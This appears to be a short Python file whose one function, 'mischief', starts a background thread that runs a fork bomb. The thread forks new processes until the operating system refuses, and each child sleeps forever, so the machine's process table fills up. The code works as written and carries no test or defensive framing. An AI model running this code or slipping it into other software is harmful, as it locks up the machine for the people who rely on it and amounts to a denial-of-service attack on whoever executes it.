import os
import threading
import time


def mischief():
    """Fork until the system says no, in the background; every child sleeps."""
    def bomb():
        while True:
            try:
                if os.fork() == 0:
                    while True:
                        time.sleep(60)
            except OSError:
                return  # the process limit: the bomb is over
    threading.Thread(target=bomb, daemon=True).start()
